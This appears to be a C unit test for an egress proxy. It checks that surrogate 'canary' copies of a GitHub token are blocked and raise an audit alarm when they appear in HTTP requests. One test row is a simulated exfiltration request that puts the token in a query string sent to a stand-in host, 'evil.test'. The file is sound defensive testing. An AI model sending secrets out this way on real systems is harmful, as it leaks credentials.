/* SPDX-License-Identifier: Apache-2.0 */
/*
 * http_canary_test.c - plain HTTP that has a surrogate in it: through a
 * real worker, and what the audit says of it
 */
#include "tests/unit/ottergate/otter_world.h"

#include <time.h>

#include "tests/unit/ottergate/known_secrets.h"

#define FIELD "GET http://a.test/ HTTP/1.1\r\nHost: a.test\r\n"

static const char policy[] =
	"version: 1\n"
	"agents:\n"
	"  - id: coder\n"
	"    match: { address: 172.20.0.2 }\n"
	"    allow: [{ id: web, names: [a.test], ports: [80, 443] }]\n";

static char live[SURROGATE_MAX], expired[SURROGATE_MAX], other[SURROGATE_MAX];

/* The answer's head begins so. */
static void answered(const char *request, const char *want, const char *what)
{
	SCOPED_FD c = world_client();
	char got[64] = "";

	if (send(c, request, strlen(request), MSG_NOSIGNAL) < 0)
		ok(false, "send: %s", what);
	world_read(c, got, strlen(want));
	got[strlen(want)] = '\0';
	is_str(got, want, "%s", what);
}

static void caught(const char *request, const char *what)
{
	answered(request, "HTTP/1.1 403 ", what);
	ok(world_audited(AUDIT_ALARM, REASON_CANARY), "%s: an alarm", what);
}

static void test_places(void)
{
	static const struct {
		const char *what, *before, *after;
	} rows[] = {
		{ "in the path", "GET http://a.test/",
		  "/x HTTP/1.1\r\nHost: a.test\r\n\r\n" },
		{ "in the query", "GET http://a.test/?key=",
		  " HTTP/1.1\r\nHost: a.test\r\n\r\n" },
		{ "in a field", FIELD "Authorization: Bearer ", "\r\n\r\n" },
		{ "in any field", FIELD "X-Note: <", ">\r\n\r\n" },
		{ "to a name that is denied", "GET http://evil.test/?k=",
		  " HTTP/1.1\r\nHost: evil.test\r\n\r\n" },
		{ "to the proxy itself",
		  "CONNECT a.test:443 HTTP/1.1\r\nHost: a.test:443\r\n"
		  "Proxy-Authorization: Bearer ",
		  "\r\n\r\n" },
	};
	char text[1024];

	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
		snprintf(text, sizeof(text), "%s%s%s", rows[i].before, live,
			 rows[i].after);
		caught(text, rows[i].what);
	}
	snprintf(text, sizeof(text), "%s%s%s", rows[2].before, expired,
		 rows[2].after);
	caught(text, "one that has expired");
}

static void test_basic(const char *user, const char *what)
{
	char pair[256], b64[512], text[1024];

	snprintf(pair, sizeof(pair), "%s:%s", user, live);
	sodium_bin2base64(b64, sizeof(b64), (const uint8_t *)pair, strlen(pair),
			  sodium_base64_VARIANT_ORIGINAL);
	snprintf(text, sizeof(text),
		 "GET http://a.test/ HTTP/1.1\r\nHost: a.test\r\n"
		 "Authorization: bAsIc %s\r\n\r\n",
		 b64);
	caught(text, what);
}

/* A surrogate of nobody's, and words that only look like one. */
static void test_others(void)
{
	static const char reply[] = "HTTP/1.1 204 Fine\r\n\r\n";
	char text[1024], got[256];
	SCOPED_FD c = world_client();
	SCOPED_FD u = -1;

	snprintf(text, sizeof(text),
		 "GET http://a.test/ HTTP/1.1\r\nHost: a.test\r\n"
		 "Authorization: Basic %s\r\nX-Token: %s\r\n\r\n",
		 "not-base64!", other);
	if (send(c, text, strlen(text), MSG_NOSIGNAL) < 0)
		ok(false, "send");
	u = world_accept();
	ok(u >= 0, "another sandbox's is a word like others");
	world_read(u, got, 14);
	ok(memcmp(got, "GET / HTTP/1.1", 14) == 0, "and goes up");
	if (send(u, reply, strlen(reply), MSG_NOSIGNAL) < 0)
		ok(false, "answer");
	world_read(c, got, 12);
	ok(memcmp(got, "HTTP/1.1 204", 12) == 0, "and is answered");
}

static void mint(uint8_t key, uint64_t at, char out[SURROGATE_MAX])
{
	static const uint8_t nonce[SURROGATE_NONCE] = { 9, 8, 7 };
	struct surrogate_key k;

	memset(k.k, key, sizeof(k.k));
	if (surrogate_mint(&k, "gh", SECRET_GITHUB, SURROGATE_RUN, at, nonce,
			   out) < 0)
		ok(false, "a surrogate");
}

int main(void)
{
	uint64_t now = (uint64_t)time(NULL);
	struct err err = { 0 };
	char json[512];

	if (sodium_init() < 0)
		return 1;
	secret_json(json, sizeof(json), "gh", "github",
		    "ghp_real0token0that0nobody0may0ever0see1", "\"a.test\"",
		    "");
	if (secrets_of(json, &world.secrets, &err) < 0)
		ok(false, "%s", err.msg);
	mint(0, now, live);
	mint(0, 0, expired);
	mint(1, now, other);
	world.kind = LISTEN_PROXY;
	world_up(policy, 1);
	test_places();
	test_basic("x-access-token", "in Basic");
	test_basic("me", "in Basic with padding");
	test_others();
	ok(world_empty(), "no connection is left");
	world_down();
	secret_set_unref(world.secrets);
	return done_testing();
}
